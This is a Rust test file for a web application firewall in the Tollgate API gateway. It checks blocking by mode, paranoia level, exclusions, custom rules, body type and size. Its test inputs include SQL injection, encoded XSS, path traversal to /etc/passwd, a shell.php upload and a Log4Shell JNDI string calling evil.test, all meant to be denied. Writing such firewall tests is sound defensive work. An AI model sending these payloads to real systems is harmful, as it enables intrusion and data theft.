//! The web application firewall: what it denies and what it lets pass, by mode, level, exclusion, own rules and kind of body.

use std::fs;

use serde_json::{Value, json};

use super::harness::{Definition, Gateway, Response, Upstream, api, error_json, request};
use tollgate_testing::core_rule_set::core_rule_set;

const JSON: &str = "Content-Type: application/json";
const FORM: &str = "Content-Type: application/x-www-form-urlencoded";
const DENIED: &str = "The request was rejected by the web application firewall";

fn guarded(id: &str, upstream: &Upstream, rules: Value) -> Definition {
    api(id, &format!("/{id}/"), &upstream.url()).set("tollgate", json!({"waf": rules}))
}

fn start(apis: impl IntoIterator<Item = Definition>) -> Gateway {
    Gateway::start(json!({"tollgate": {"waf": {"rules": core_rule_set()}}}), apis)
}

/// A request as browsers send it: at the highest level, the rules miss what others leave out.
fn sent(gateway: &Gateway, method: &str, target: &str, lines: &[&str], body: &str) -> Response {
    let usual = ["User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", "Accept: */*"];
    gateway.send(request(method, target, &[&usual, lines].concat(), body))
}

#[test]
fn attacks_are_denied_and_other_requests_pass() {
    let upstream = Upstream::ok();
    let gateway = start([guarded("a", &upstream, json!({}))]);
    let multipart = "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n";
    let upload = "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n\r\nx\r\n--b--\r\n";
    let of_parts = "Content-Type: multipart/form-data; boundary=b";
    let of_xml = "Content-Type: application/xml";
    let attacks = [
        ("GET", "/a/?q=1%27%20OR%20%271%27=%271", "", ""),
        ("GET", "/a/?q=%3Cscript%3Ealert(1)%3C/script%3E", "", ""),
        // What is encoded twice, and in full-width forms.
        ("GET", "/a/?q=%253Cscript%253Ealert(1)%253C/script%253E", "", ""),
        ("GET", "/a/?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E", "", ""),
        ("GET", "/a/?file=../../../../etc/passwd", "", ""),
        ("GET", "/a/", "X-Name: ${jndi:ldap://evil.test/a}", ""),
        ("GET", "/a/", "Cookie: q=<script>alert(1)</script>", ""),
        ("POST", "/a/", FORM, "a=1&q=%3Cscript%3Ealert(1)%3C/script%3E"),
        ("POST", "/a/", JSON, "{\"items\": [{\"q\": \"<script>alert(1)</script>\"}]}"),
        // Readers disagree about which of two members counts.
        ("POST", "/a/", JSON, "{\"q\": \"<script>alert(1)</script>\", \"q\": \"1\"}"),
        ("POST", "/a/", JSON, "{\"q\": \"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\"}"),
        ("POST", "/a/", of_parts, multipart),
        ("POST", "/a/", of_parts, upload),
        ("POST", "/a/", of_xml, "<a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a>"),
        ("POST", "/a/", of_xml, "<a><![CDATA[<script>alert(1)</script>]]></a>"),
        ("POST", "/a/", of_xml, "<a b=\"java.lang.Runtime\"/>"),
    ];
    for (method, target, line, body) in attacks {
        let lines = if line.is_empty() { &[][..] } else { &[line] };
        let response = sent(&gateway, method, target, lines, body);
        assert_eq!(response.status, 403, "{method} {target} {line} {body}: {response}");
        assert!(response.text().contains(DENIED), "{response}");
    }
    assert_eq!(upstream.requests(), 0);
    let field = "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nhello\r\n--b--\r\n";
    let usual = [
        ("GET", "/a/?q=hello+world&page=2", "", ""),
        ("GET", "/a/", "Cookie: session=0123456789abcdef", ""),
        ("POST", "/a/", FORM, "name=Ada+Lovelace&mail=ada%40example.com"),
        ("POST", "/a/", JSON, "{\"name\": \"Ada\", \"age\": 36, \"tags\": [\"x\", null, true, 1.5]}"),
        ("POST", "/a/", of_parts, field),
        ("POST", "/a/", of_xml, "<a b=\"1\"><c>text</c></a>"),
    ];
    for (method, target, line, body) in usual {
        let lines = if line.is_empty() { &[][..] } else { &[line] };
        let response = sent(&gateway, method, target, lines, body);
        assert_eq!(response.status, 200, "{method} {target} {line} {body}: {response}");
        assert_eq!(upstream.last().text(), body);
    }
}

#[test]
fn detection_lets_pass_what_enforcing_denies() {
    let upstream = Upstream::ok();
    let gateway = start([
        guarded("enforcing", &upstream, json!({"mode": "enforcing"})),
        guarded("detection", &upstream, json!({"mode": "detection"})),
        guarded("off", &upstream, json!({"mode": "off"})),
    ]);
    for (id, status) in [("enforcing", 403), ("detection", 200), ("off", 200)] {
        let response = sent(&gateway, "GET", &format!("/{id}/?q=1%27%20OR%20%271%27=%271"), &[], "");
        assert_eq!(response.status, status, "{id}: {response}");
        assert!(!response.head.has("Tollgate-Dry-Run"), "{response}");
    }
}

#[test]
fn levels_and_thresholds_say_how_suspicious_the_rules_are() {
    let upstream = Upstream::ok();
    let level = |level: u8, threshold: u32| json!({"paranoia_level": level, "inbound_threshold": threshold});
    let gateway = start([
        guarded("one", &upstream, level(1, 5)),
        guarded("three", &upstream, level(3, 5)),
        guarded("lenient", &upstream, level(3, 1000)),
    ]);
    // Many special characters: suspicious at level 3 only.
    let target = |id: &str| format!("/{id}/?q=%7B%5B%28%21%40%23%24%25%5E%26%2A%29%5D%7D%7E%60");
    for (id, status) in [("one", 200), ("three", 403), ("lenient", 200)] {
        let response = sent(&gateway, "GET", &target(id), &[], "");
        assert_eq!(response.status, status, "{id}: {response}");
    }
}

#[test]
fn exclusions_are_for_rules_tags_values_and_paths() {
    let upstream = Upstream::ok();
    let excluding = |id: &str, exclusion: Value| guarded(id, &upstream, json!({"exclusions": [exclusion]}));
    let gateway = start([
        excluding("rule", json!({"rules": ["942000-942999"]})),
        excluding("other", json!({"rules": ["941100"]})),
        excluding("tag", json!({"tags": ["attack-sqli"]})),
        excluding("value", json!({"parameters": ["ARGS:q"]})),
        excluding("pattern", json!({"tags": ["attack-sqli"], "parameters": ["ARGS:/^q$/"]})),
        excluding("path", json!({"paths": ["/free/"]})),
    ]);
    let attack = "q=1%27%20OR%20%271%27=%271";
    for (target, status) in [
        (format!("/rule/?{attack}"), 200),
        (format!("/other/?{attack}"), 403),
        (format!("/tag/?{attack}"), 200),
        (format!("/value/?{attack}"), 200),
        (format!("/value/?p{attack}"), 403),
        (format!("/pattern/?{attack}"), 200),
        (format!("/pattern/?p{attack}"), 403),
        (format!("/path/free/?{attack}"), 200),
        (format!("/path/freely?{attack}"), 403),
    ] {
        assert_eq!(sent(&gateway, "GET", &target, &[], "").status, status, "{target}");
    }
}

#[test]
fn bodies_that_do_not_fit_their_type_are_refused() {
    let upstream = Upstream::ok();
    let gateway = start([guarded("a", &upstream, json!({}))]);
    let parts = "Content-Type: multipart/form-data; boundary=b";
    for (line, body) in [
        (JSON, "{\"a\": "),
        (JSON, "{} {}"),
        ("Content-Type: application/xml", "<a><b></a>"),
        ("Content-Type: application/xml", "text"),
        (parts, "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx"),
        (parts, "--c--\r\n"),
        ("Content-Type: multipart/form-data", "--b--\r\n"),
    ] {
        let response = sent(&gateway, "POST", "/a/", &[line], body);
        assert_eq!(response.status, 400, "{line} {body}: {response}");
        assert!(response.text().contains("The body does not fit its Content-Type"), "{line} {body}: {response}");
    }
    assert_eq!(upstream.requests(), 0);
}

#[test]
fn a_larger_body_is_refused_or_inspected_at_its_start() {
    let upstream = Upstream::ok();
    let up_to = |id: &str, larger: &str| guarded(id, &upstream, json!({"body_max": 1000, "larger_bodies": larger}));
    let gateway =
        start([up_to("refuse", "refuse"), up_to("start", "inspect_start"), guarded("head", &upstream, json!({"body_max": 0}))]);
    let attack = "<script>alert(1)</script>";
    let late = format!("{{\"a\": \"{}\", \"q\": \"{attack}\"}}", "x".repeat(2_000));
    let early = format!("{{\"q\": \"{attack}\", \"a\": \"{}\"}}", "x".repeat(2_000));
    for (id, body, status) in [("refuse", &late, 400), ("start", &late, 200), ("start", &early, 403), ("head", &early, 200)] {
        let response = sent(&gateway, "POST", &format!("/{id}/"), &[JSON], body);
        assert_eq!(response.status, status, "{id}: {response}");
    }
}

#[test]
fn own_rules_come_before_those_of_the_release() {
    let upstream = Upstream::ok();
    let folder = tempfile::tempdir().unwrap();
    let own = folder.path().join("own");
    fs::create_dir(&own).unwrap();
    let rules = "# Ours\nSecRule ARGS:coupon \"!@rx ^[A-Z0-9]{8}$\" \"id:1000001,phase:2,deny,msg:'Not a coupon'\"\n\
                 SecRule REQUEST_FILENAME \"@endsWith /open\" \"id:1000002,phase:1,pass,nolog,ctl:ruleEngine=Off\"\n\
                 SecAction \"id:1000010,phase:1,nolog,pass,setvar:'tx.allowed_methods=GET HEAD POST OPTIONS PUT PATCH DELETE'\"\n";
    fs::write(own.join("shop.conf"), rules).unwrap();
    fs::write(
        own.join("broken.conf"),
        "SecRule ARGS \"@rx (\" \"id:1,phase:2,deny\"\nSecRule ARGS \"@geoLookup\" \"id:2\"\nSecFoo\n",
    )
    .unwrap();
    fs::write(folder.path().join("outside.conf"), "").unwrap();
    std::os::unix::fs::symlink(folder.path().join("outside.conf"), own.join("link.conf")).unwrap();
    let with = |id: &str, file: &str| guarded(id, &upstream, json!({"rule_files": [file]}));
    let gateway = Gateway::start(
        json!({"tollgate": {"waf": {"rules": core_rule_set(), "own_rules": own}}}),
        [with("shop", "shop.conf"), with("broken", "broken.conf"), with("missing", "no.conf"), with("link", "link.conf")],
    );
    for (target, status) in [
        ("/shop/?coupon=AB12CD34", 200),
        ("/shop/?coupon=nothing", 403),
        ("/shop/open?coupon=%3Cscript%3Ealert(1)%3C/script%3E", 200),
        ("/shop/?q=%3Cscript%3Ealert(1)%3C/script%3E", 403),
        ("/broken/", 404),
        ("/missing/", 404),
        ("/link/", 404),
    ] {
        assert_eq!(sent(&gateway, "GET", target, &[], "").status, status, "{target}");
    }
    for (method, status) in [("PUT", 200), ("DELETE", 200), ("TRACK", 403)] {
        assert_eq!(sent(&gateway, method, "/shop/", &[], "").status, status, "{method}");
    }
    let log = gateway.log();
    for part in [
        "broken.conf:1: SecRule: error parsing regexp: missing closing )",
        "broken.conf:2: SecRule: the operator @geoLookup is not supported",
        "broken.conf:3: SecFoo: this directive is not supported",
        "no.conf cannot be read",
        "link.conf is not below own_rules",
    ] {
        assert!(log.contains(part), "{part}: {log}");
    }
}

#[test]
fn a_reload_takes_changed_rules_though_the_definition_is_the_same() {
    let upstream = Upstream::ok();
    let folder = tempfile::tempdir().unwrap();
    let (own, release) = (folder.path().join("own"), folder.path().join("release"));
    [&own, &release].into_iter().for_each(|path| fs::create_dir(path).unwrap());
    let rule = |id: u32, text: &str| format!("SecRule ARGS:q \"@streq {text}\" \"id:{id},phase:2,deny\"\n");
    fs::write(own.join("shop.conf"), rule(1, "a")).unwrap();
    fs::write(release.join("one.conf"), rule(2, "b")).unwrap();
    let with = |id: &str, file: &str| guarded(id, &upstream, json!({"rule_files": [file]}));
    let settings = json!({"tollgate": {"waf": {"rules": release, "own_rules": own}}});
    let gateway = Gateway::start(settings, [with("shop", "shop.conf"), with("late", "late.conf")]);
    let statuses = |id: &str| ["a", "b", "c", "d"].map(|q| sent(&gateway, "GET", &format!("/{id}/?q={q}"), &[], "").status);
    assert_eq!(statuses("shop"), [403, 403, 200, 200]);
    assert_eq!(statuses("late"), [404; 4]);
    fs::write(own.join("shop.conf"), rule(1, "c")).unwrap();
    fs::write(own.join("late.conf"), rule(3, "a")).unwrap();
    fs::write(release.join("two.conf"), rule(4, "d")).unwrap();
    gateway.reload();
    assert_eq!(statuses("shop"), [200, 403, 403, 403]);
    assert_eq!(statuses("late"), [403, 403, 200, 403]);
    // What cannot be used changes nothing.
    fs::write(own.join("shop.conf"), "SecFoo\n").unwrap();
    gateway.reload();
    assert_eq!(statuses("shop"), [200, 403, 403, 403]);
    assert!(gateway.log().contains("shop.conf:1: SecFoo: this directive is not supported"), "{}", gateway.log());
}

#[test]
fn many_plain_values_pass_and_what_is_among_them_is_found() {
    let upstream = Upstream::ok();
    let gateway = start([guarded("a", &upstream, json!({"paranoia_level": 2, "body_max": 1_000_000}))]);
    let numbers = "12345,".repeat(100_000);
    for (body, status) in [
        (format!("[{numbers}1]"), 200),
        (format!("{{\"rows\": [{}0]}}", "[1.5, true, null, \"red\"],".repeat(10_000)), 200),
        (format!("[{numbers}\"<script>alert(1)</script>\"]"), 403),
        (format!("{{\"rows\": [{numbers}{{\"<script>alert(1)</script>\": 1}}]}}"), 403),
    ] {
        let response = sent(&gateway, "POST", "/a/", &[JSON], &body);
        assert_eq!(response.status, status, "{} bytes: {response}", body.len());
    }
}

#[test]
fn an_api_without_rules_is_not_served() {
    let upstream = Upstream::ok();
    let gateway = Gateway::start(json!({}), [guarded("a", &upstream, json!({}))]);
    assert_eq!(gateway.get("/a/").status, 404);
    assert!(gateway.log().contains("`tollgate.waf.rules` of the configuration names no directory"), "{}", gateway.log());
}

#[test]
fn work_beyond_the_budget_is_refused() {
    let upstream = Upstream::ok();
    let gateway = Gateway::start(
        json!({"tollgate": {"waf": {"rules": core_rule_set(), "work_max": 1_000_000}}}),
        [guarded("a", &upstream, json!({"paranoia_level": 4})), guarded("seen", &upstream, json!({"mode": "detection"}))],
    );
    let body = format!("a={}", "x".repeat(100_000));
    let response = sent(&gateway, "POST", "/a/", &[FORM], &body);
    assert_eq!((response.status, response.text()), (413, error_json("The request takes too much work to inspect")));
    assert_eq!(sent(&gateway, "POST", "/seen/", &[FORM], &body).status, 200);
}

#[test]
fn rules_may_stand_in_the_definition_alone_or_before_the_others() {
    let upstream = Upstream::ok();
    let own = "SecRule ARGS:coupon \"!@rx ^[A-Z0-9]{8}$\" \"id:1000001,phase:2,deny,msg:'Not a coupon'\"";
    let gateway = start([
        guarded("alone", &upstream, json!({"rules": own, "core_rules": false})),
        guarded("both", &upstream, json!({"rules": own})),
        guarded("nothing", &upstream, json!({"core_rules": false})),
        guarded("broken", &upstream, json!({"rules": "SecRule ARGS \"@nothing x\" \"id:1,deny\""})),
    ]);
    for (target, status) in [
        ("/alone/?coupon=ABCD1234", 200),
        ("/alone/?coupon=no", 403),
        ("/alone/?q=%3Cscript%3Ealert(1)%3C/script%3E", 200),
        ("/both/?coupon=no", 403),
        ("/both/?q=%3Cscript%3Ealert(1)%3C/script%3E", 403),
        ("/both/?coupon=ABCD1234", 200),
        ("/nothing/", 404),
        ("/broken/", 404),
    ] {
        let response = sent(&gateway, "GET", target, &[], "");
        assert_eq!(response.status, status, "{target}: {response}");
    }
    let log = gateway.log();
    assert!(log.contains("without core_rules it needs rules or rule_files"), "{log}");
    assert!(log.contains("tollgate.waf.rules:1"), "{log}");
}

#[test]
fn directives_without_effect_are_named_where_they_are_ones_own() {
    let upstream = Upstream::ok();
    let folder = tempfile::tempdir().unwrap();
    let (own, release) = (folder.path().join("own"), folder.path().join("release"));
    [&own, &release].into_iter().for_each(|path| fs::create_dir(path).unwrap());
    let rule = "SecRule ARGS:q \"@streq a\" \"id:1,phase:2,deny\"\n";
    fs::write(own.join("shop.conf"), format!("# Ours\n{rule}SecRuleEngine DetectionOnly\nsecauditlog /tmp/log\n")).unwrap();
    fs::write(release.join("crs-setup.conf"), "SecResponseBodyAccess On\n").unwrap();
    fs::write(release.join("crs-setup.conf.example"), "SecCookieFormat 0\n").unwrap();
    fs::write(release.join("one.conf"), "SecComponentSignature \"A release\"\n").unwrap();
    let settings = json!({"tollgate": {"waf": {"rules": release, "own_rules": own}}});
    let rules = json!({"rule_files": ["shop.conf"], "rules": "SecRequestBodyLimit 1"});
    let versions = json!({"Default": {"name": "Default", "expires": ""}, "second": {"name": "second", "expires": ""}});
    let shop = guarded("shop", &upstream, rules).set("version_data/not_versioned", false).set("version_data/versions", versions);
    let gateway = Gateway::start(settings, [shop.set("definition", json!({"location": "header", "key": "X-Version"}))]);
    let answer = sent(&gateway, "GET", "/shop/?q=a", &["X-Version: second"], "");
    assert_eq!(answer.status, 403, "{answer}");
    let log = gateway.log();
    let warned: Vec<&str> = log.lines().filter(|line| line.contains("has no effect: ")).collect();
    assert_eq!(warned.len(), 4, "{log}");
    for (place, instead) in [
        ("shop.conf:3: SecRuleEngine has no effect: ", "`mode` of the API"),
        ("shop.conf:4: secauditlog has no effect: ", "the log and the records"),
        ("crs-setup.conf:1: SecResponseBodyAccess has no effect: ", "`responses` of the API"),
        ("tollgate.waf.rules:1: SecRequestBodyLimit has no effect: ", "`body_max` of the API"),
    ] {
        assert!(warned.iter().any(|line| line.contains(place) && line.contains(instead)), "{place}: {log}");
    }
}
